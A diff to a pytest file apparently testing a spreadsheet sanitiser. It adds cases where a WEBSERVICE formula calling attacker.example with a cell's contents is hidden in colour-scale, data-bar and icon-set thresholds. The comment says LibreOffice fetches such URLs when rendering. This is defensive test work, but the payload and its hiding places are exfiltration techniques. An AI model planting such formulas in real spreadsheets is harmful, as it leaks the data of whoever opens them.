@@ -1298,6 +1298,7 @@ _X14 = (
     'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
 )
 _CALL = 'WEBSERVICE("http://attacker.example/?"&amp;A1)'
+_CALL_IN_ATTRIBUTE = _CALL.replace('"', "&quot;")
 
 
 @pytest.mark.parametrize(
@@ -1323,8 +1324,47 @@ _CALL = 'WEBSERVICE("http://attacker.example/?"&amp;A1)'
             "</x14:conditionalFormattings></ext></extLst>",
             b"",
         ),
+        # a threshold of a colour scale, a data bar or an icon set (LibreOffice fetched
+        # the URL as it drew the sheet)
+        (
+            '<conditionalFormatting sqref="A1:A3"><cfRule type="colorScale" priority="1">'
+            f'<colorScale><cfvo type="formula" val="LEN({_CALL_IN_ATTRIBUTE})"/><cfvo type="max"/>'
+            '<color rgb="FFF8696B"/><color rgb="FF63BE7B"/></colorScale></cfRule>'
+            "</conditionalFormatting>",
+            b"",
+        ),
+        (
+            '<conditionalFormatting sqref="A1:A3"><cfRule type="dataBar" priority="1">'
+            f'<dataBar><cfvo type="min"/><cfvo type="num" val="LEN({_CALL_IN_ATTRIBUTE})"/>'
+            '<color rgb="FF638EC6"/></dataBar></cfRule></conditionalFormatting>',
+            b"",
+        ),
+        (
+            '<conditionalFormatting sqref="A1:A3"><cfRule type="iconSet" priority="1">'
+            '<iconSet><cfvo type="percent" val="0"/>'
+            f'<cfvo type="formula" val="LEN({_CALL_IN_ATTRIBUTE})"/><cfvo type="percent" val="67"/>'
+            "</iconSet></cfRule></conditionalFormatting>",
+            b"",
+        ),
+        (
+            f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" {_X14}>'
+            '<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="dataBar" '
+            'id="{00000000-0000-0000-0000-000000000002}"><x14:dataBar>'
+            f'<x14:cfvo type="formula"><xm:f>LEN({_CALL})</xm:f></x14:cfvo>'
+            '<x14:cfvo type="max"/></x14:dataBar></x14:cfRule><xm:sqref>A1</xm:sqref>'
+            "</x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>",
+            b"",
+        ),
     ],
-    ids=["conditional-format", "data-validation", "x14-conditional-format"],
+    ids=[
+        "conditional-format",
+        "data-validation",
+        "x14-conditional-format",
+        "colour-scale-threshold",
+        "data-bar-threshold",
+        "icon-set-threshold",
+        "x14-data-bar-threshold",
+    ],
 )
 def test_formulas_of_rules_are_judged(tmp_path: Path, rules: str, kept: bytes) -> None:
     """A WEBSERVICE call in a conditional format's or a data validation's formula
